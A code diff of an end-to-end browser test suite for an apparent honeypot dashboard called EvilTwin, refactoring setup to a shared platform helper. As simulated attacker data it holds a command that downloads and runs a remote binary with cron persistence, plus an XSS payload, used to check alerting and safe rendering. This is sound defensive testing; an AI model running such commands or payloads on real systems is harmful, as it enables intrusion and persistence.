@@ -1,72 +1,45 @@
 import { createHmac } from 'node:crypto'
-import type { Browser, Page } from 'playwright-core'
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
-import {
-  accessibilityProblems,
-  expectNoSidewaysScroll,
-  logIn,
-  openBrowser,
-  takePicture,
-  watchForProblems,
-} from './browser.js'
-import {
-  accessToken,
-  createInstallation,
-  type Installation,
-  PASSWORD,
-  type RunningServer,
-  SENSOR_KEY,
-} from './server-process.js'
+import type { Page } from 'playwright-core'
+import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { accessibilityProblems, expectNoSidewaysScroll, logIn, takePicture } from './browser.js'
+import { platformOfFile } from './platform-of-file.js'
+import { accessToken, PASSWORD, SENSOR_KEY } from './server-process.js'
 import { recentCapture, sendEvent, sendLines } from './traffic.js'
 
 const CANARY_SECRET = 'an end-to-end canary secret'
 const IMPLANT = 'wget http://192.0.2.1/x; chmod 777 x; ./x; (crontab -l; echo x) | crontab -'
-let installation: Installation
-let server: RunningServer
-let browser: Browser
+const platform = platformOfFile({
+  BOOTSTRAP_SENSOR_KEY: SENSOR_KEY,
+  CANARY_WEBHOOK_SECRET: CANARY_SECRET,
+})
 let page: Page
 let problems: string[]
 
-beforeAll(async () => {
-  installation = await createInstallation({
-    ADMIN_PASSWORD: PASSWORD,
-    BOOTSTRAP_SENSOR_KEY: SENSOR_KEY,
-    CANARY_WEBHOOK_SECRET: CANARY_SECRET,
-  })
-  server = await installation.start()
-  browser = await openBrowser()
-})
-afterAll(async () => {
-  await browser?.close()
-  await server?.kill('SIGTERM')
-  installation?.remove()
-})
 beforeEach(async () => {
-  page = await browser.newPage({ viewport: { width: 1400, height: 900 } })
-  problems = watchForProblems(page, installation.url)
+  ;({ page, problems } = await platform.openPage())
 })
 afterEach(async () => {
   await page.close()
 })
 
 const enter = async (path = '/dashboard') => {
-  await page.goto(installation.url + path)
+  await page.goto(platform.url + path)
   await logIn(page)
 }
 
 describe('the first day', () => {
   test('somebody logs in with the keyboard, is told what to do, and sees the first event arrive', async () => {
-    await page.goto(installation.url)
+    await page.goto(platform.url)
     await page.locator('input[name=username]:focus').waitFor()
     await page.keyboard.type('admin')
     await page.keyboard.press('Tab')
     await page.keyboard.type(PASSWORD)
     await page.keyboard.press('Enter')
     await page.getByRole('heading', { name: 'Welcome to EvilTwin' }).waitFor()
-    await page.getByText(`curl ${installation.url}/log`).waitFor()
-    await sendEvent(installation.url, { username: 'root', password: 'x' })
+    await page.getByText(`curl ${platform.url}/log`).waitFor()
+    await sendEvent(platform.url, { username: 'root', password: 'x' })
     await page.getByRole('heading', { name: 'Last 24h' }).waitFor()
-    await sendEvent(installation.url, { command: 'uname -a' })
+    await sendEvent(platform.url, { command: 'uname -a' })
     await page.getByTestId('Events').getByText('2', { exact: true }).waitFor()
     const attackers = page.getByRole('region', { name: 'Top attackers' })
     await attackers.getByRole('cell', { name: '203.0.113.7' }).waitFor()
@@ -79,7 +52,7 @@ describe('the first day', () => {
   })
 
   test('a wrong password is said so and logs nobody in', async () => {
-    await page.goto(installation.url)
+    await page.goto(platform.url)
     await page.getByLabel('Username').fill('admin')
     await page.getByLabel('Password').fill('wrong')
     await page.getByRole('button', { name: 'Log in' }).click()
@@ -94,13 +67,13 @@ describe('the first day', () => {
       JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
     )
     expect(readable).not.toMatch(/eyJ|[A-Za-z0-9_-]{40}/)
-    const cookies = await page.context().cookies(`${installation.url}/auth`)
+    const cookies = await page.context().cookies(`${platform.url}/auth`)
     expect(cookies.map(({ name }) => name).sort()).toEqual(['eviltwin_device', 'eviltwin_refresh'])
     for (const each of cookies)
       expect(each).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/auth' })
     const cookie = cookies.find(({ name }) => name === 'eviltwin_refresh')
     const refresh = (headers: Record<string, string>) =>
-      fetch(`${installation.url}/auth/refresh`, {
+      fetch(`${platform.url}/auth/refresh`, {
         method: 'POST',
         headers: {
           'content-type': 'application/json',
@@ -115,7 +88,7 @@ describe('the first day', () => {
   })
 
   test('the pages of the API documentation render, and run no script that the policy would stop', async () => {
-    await page.goto(`${installation.url}/docs`)
+    await page.goto(`${platform.url}/docs`)
     await page.getByText('Send sensor events').waitFor()
     expect(problems.filter((text) => /script|refused to connect/i.test(text))).toEqual([])
   })
@@ -126,7 +99,7 @@ describe('alerts', () => {
     await enter()
     const alerts = page.getByRole('list', { name: 'Newest alerts' })
     await page.getByText('Feed connected').waitFor()
-    await sendEvent(installation.url, { source_ip: '203.0.113.50', session: 'a', command: IMPLANT })
+    await sendEvent(platform.url, { source_ip: '203.0.113.50', session: 'a', command: IMPLANT })
     await alerts.getByRole('link', { name: '203.0.113.50' }).waitFor()
     const body = JSON.stringify({
       src_ip: '203.0.113.51',
@@ -134,7 +107,7 @@ describe('alerts', () => {
       memo: '<img src=x onerror=alert(1)>',
     })
     const signature = createHmac('sha256', CANARY_SECRET).update(body).digest('hex')
-    const touched = await fetch(`${installation.url}/canary/webhook`, {
+    const touched = await fetch(`${platform.url}/canary/webhook`, {
       method: 'POST',
       headers: { 'content-type': 'application/json', 'x-canary-signature': `sha256=${signature}` },
       body,
@@ -148,7 +121,7 @@ describe('alerts', () => {
 
   test('are acknowledged, assigned, commented and resolved, one and many at once', async () => {
     for (const [n, source_ip] of ['203.0.113.61', '203.0.113.62', '203.0.113.63'].entries())
-      await sendEvent(installation.url, { source_ip, session: `many ${n}`, command: IMPLANT })
+      await sendEvent(platform.url, { source_ip, session: `many ${n}`, command: IMPLANT })
     await enter('/dashboard/alerts')
     const row = (ip: string) => page.getByRole('row').filter({ hasText: ip })
     await row('203.0.113.61').getByRole('button').click()
@@ -184,14 +157,14 @@ describe('alerts', () => {
 
 describe('sessions', () => {
   beforeAll(async () => {
-    await sendLines(installation.url, recentCapture())
+    await sendLines(platform.url, recentCapture())
     for (const [second, event] of [
       { username: 'root', password: 'toor', outcome: 'success' },
       { command: 'uname -a' },
       { command: IMPLANT },
     ].entries()) {
       const time = new Date(Date.now() - 10_000 + second * 1000).toISOString()
-      await sendEvent(installation.url, { source_ip: '203.0.113.70', session: 'watched', time, ...event })
+      await sendEvent(platform.url, { source_ip: '203.0.113.70', session: 'watched', time, ...event })
     }
   })
 
@@ -292,7 +265,7 @@ describe('the platform', () => {
     const dialog = page.getByRole('dialog', { name: 'Canary' })
     const url = (await dialog.locator('pre').textContent()) ?? ''
     expect(url).toContain('/c/')
-    await fetch(new URL(new URL(url).pathname, installation.url))
+    await fetch(new URL(new URL(url).pathname, platform.url))
     await page.keyboard.press('Escape')
     const row = page.getByRole('row').filter({ hasText: 'finance share' })
     await row.getByRole('cell', { name: '1', exact: true }).waitFor()
@@ -319,7 +292,7 @@ describe('the platform', () => {
     await page.getByLabel('Name', { exact: true }).fill('a new sensor')
     await page.getByRole('button', { name: 'Create' }).click()
     const key = (await page.getByRole('status').locator('pre').textContent()) ?? ''
-    const answer = await fetch(`${installation.url}/log`, {
+    const answer = await fetch(`${platform.url}/log`, {
       method: 'POST',
       headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
       body: JSON.stringify({ source_ip: '203.0.113.80', time: new Date().toISOString() }),
@@ -362,9 +335,9 @@ describe('the platform', () => {
 
 describe('roles', () => {
   beforeAll(async () => {
-    const token = await accessToken(installation.url)
+    const token = await accessToken(platform.url)
     for (const role of ['viewer', 'analyst'])
-      await fetch(`${installation.url}/users`, {
+      await fetch(`${platform.url}/users`, {
         method: 'POST',
         headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
         body: JSON.stringify({ username: `a-${role}`, password: PASSWORD, role }),
@@ -372,27 +345,27 @@ describe('roles', () => {
   })
 
   test('a viewer sees, and finds nothing to change', async () => {
-    await page.goto(`${installation.url}/dashboard/alerts`)
+    await page.goto(`${platform.url}/dashboard/alerts`)
     await logIn(page, 'a-viewer')
     await page.getByRole('row').nth(1).waitFor()
     expect(await page.getByRole('checkbox').count()).toBe(0)
     await page.getByRole('row').nth(1).getByRole('button').click()
     await page.getByRole('dialog').getByText('History').waitFor()
     expect(await page.getByRole('button', { name: /Acknowledge|Resolve|Assign/ }).count()).toBe(0)
-    await page.goto(`${installation.url}/dashboard/settings?tab=users`)
+    await page.goto(`${platform.url}/dashboard/settings?tab=users`)
     await page.getByRole('tab', { name: 'Profile' }).waitFor()
     expect(await page.getByRole('tab').allTextContents()).toEqual(['Profile', 'Alert policy'])
-    await page.goto(`${installation.url}/dashboard/canaries`)
+    await page.goto(`${platform.url}/dashboard/canaries`)
     await page.getByRole('heading', { name: 'Canary tokens' }).waitFor()
     expect(await page.getByRole('button', { name: 'New canary' }).count()).toBe(0)
     expect(problems).toEqual([])
   })
 
   test('an analyst handles alerts, and manages nobody', async () => {
-    await page.goto(`${installation.url}/dashboard/alerts`)
+    await page.goto(`${platform.url}/dashboard/alerts`)
     await logIn(page, 'a-analyst')
     await page.getByRole('checkbox', { name: 'Select all' }).waitFor()
-    await page.goto(`${installation.url}/dashboard/settings`)
+    await page.goto(`${platform.url}/dashboard/settings`)
     await page.getByRole('tab', { name: 'Profile' }).waitFor()
     expect(await page.getByRole('tab', { name: 'Users' }).count()).toBe(0)
   })
@@ -460,13 +433,13 @@ const PAGES = [
 
 describe.each(['light', 'dark'] as const)('every page in %s', (colorScheme) => {
   test('has no fault that axe finds, asks nothing of others, and fits 360 pixels and 4K', async () => {
-    await fetch(`${installation.url}/log`, {
+    await fetch(`${platform.url}/log`, {
       method: 'POST',
       headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/x-ndjson' },
       body: '{"neither":"address nor time"}',
     })
     await page.emulateMedia({ colorScheme })
-    await page.goto(installation.url)
+    await page.goto(platform.url)
     await page.getByRole('heading', { name: 'Log in' }).waitFor()
     expect(await accessibilityProblems(page), 'login').toEqual([])
     await takePicture(page, `login-${colorScheme}`)
@@ -478,7 +451,7 @@ describe.each(['light', 'dark'] as const)('every page in %s', (colorScheme) => {
       ['slo', `/dashboard/slos/${sloPath}`, ''] as const,
     ]) {
       await page.setViewportSize({ width: 1400, height: 900 })
-      await page.goto(installation.url + path)
+      await page.goto(platform.url + path)
       await page.getByRole('heading', { level: 1, name: heading }).waitFor()
       await page.locator('[aria-busy=true]').first().waitFor({ state: 'detached' })
       expect(await accessibilityProblems(page), name).toEqual([])
@@ -497,8 +470,8 @@ describe.each(['light', 'dark'] as const)('every page in %s', (colorScheme) => {
   })
 
   async function firstOf(list: string): Promise<string> {
-    const token = await accessToken(installation.url)
-    const answer = await fetch(`${installation.url}/${list}`, {
+    const token = await accessToken(platform.url)
+    const answer = await fetch(`${platform.url}/${list}`, {
       headers: { authorization: `Bearer ${token}` },
     })
     return ((await answer.json()) as { items: Array<{ id: string }> }).items[0]?.id ?? ''
@@ -521,9 +494,9 @@ describe('what attackers write', () => {
   test('is text everywhere, shown for what it is, exports included', async () => {
     const common = { source_ip: '203.0.113.90', session: 'hostile', sensor_id: '<b>sensor</b>' }
     for (const text of HOSTILE) {
-      await sendEvent(installation.url, { ...common, username: text, password: text })
-      await sendEvent(installation.url, { ...common, command: text })
-      await sendEvent(installation.url, { ...common, event_type: 'file_upload', url: text, message: text })
+      await sendEvent(platform.url, { ...common, username: text, password: text })
+      await sendEvent(platform.url, { ...common, command: text })
+      await sendEvent(platform.url, { ...common, event_type: 'file_upload', url: text, message: text })
     }
     await enter('/dashboard/sessions?src_ip=203.0.113.90')
     await page.getByText('<b>sensor</b>').first().waitFor()
@@ -554,7 +527,7 @@ describe('what attackers write', () => {
       '/dashboard/alerts',
       '/dashboard/sensors',
     ]) {
-      await page.goto(installation.url + path)
+      await page.goto(platform.url + path)
       await page.getByText('<b>sensor</b>').first().waitFor()
     }
     expect(problems).toEqual([])
